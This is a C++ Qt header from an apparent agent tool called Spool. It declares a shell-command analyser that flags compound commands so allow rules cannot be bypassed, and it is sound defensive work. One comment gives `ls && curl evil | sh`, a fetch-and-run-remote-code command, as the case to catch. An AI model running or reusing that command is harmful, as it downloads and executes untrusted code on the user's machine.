#pragma once

#include <QJsonObject>
#include <QString>
#include <QStringList>

namespace Spool {

// What a policy may safely assume about a `shell.exec` command line without running a shell.
//
// The policy must never let `ls && curl evil | sh` ride on an allow rule written for `ls`. So a
// command counts as *compound* whenever a shell could run more than its first word: sequences
// (`;`, `&&`, `||`, `&`, newline), pipes, command or process substitution (`$(...)`, backticks,
// `<(...)`), redirections (`<`, `>`), subshells and groups, variable assignments before the
// command, a first word the shell would expand (`$X`, globs, `~`, quotes), shell keywords, and
// unbalanced quotes. This errs on the side of "compound": a false positive costs one approval
// prompt, a false negative a command the user never allowed.
//
// `argv0` is the first word only when the command is simple; policies should match on it only
// together with `is_compound == false`, e.g. in Cedar:
//   permit(...) when { context.arguments.argv0 == "ls" && !context.arguments.is_compound };
// `runs_other_commands` marks first words that execute their arguments (env, xargs, sh, sudo,
// ...): an allow rule for those allows everything.
struct ShellCommandFacts
{
    QString argv0;
    bool isCompound = true;
    bool runsOtherCommands = false;
    QStringList reasons; // why it is compound, for the approval dialog

    // {"argv0": ..., "is_compound": ..., "runs_other_commands": ..., "compound_reasons": [...]}
    QJsonObject toJson() const;

    static ShellCommandFacts analyze(const QString &command);
};

bool isCompoundCommand(const QString &command);

} // namespace Spool
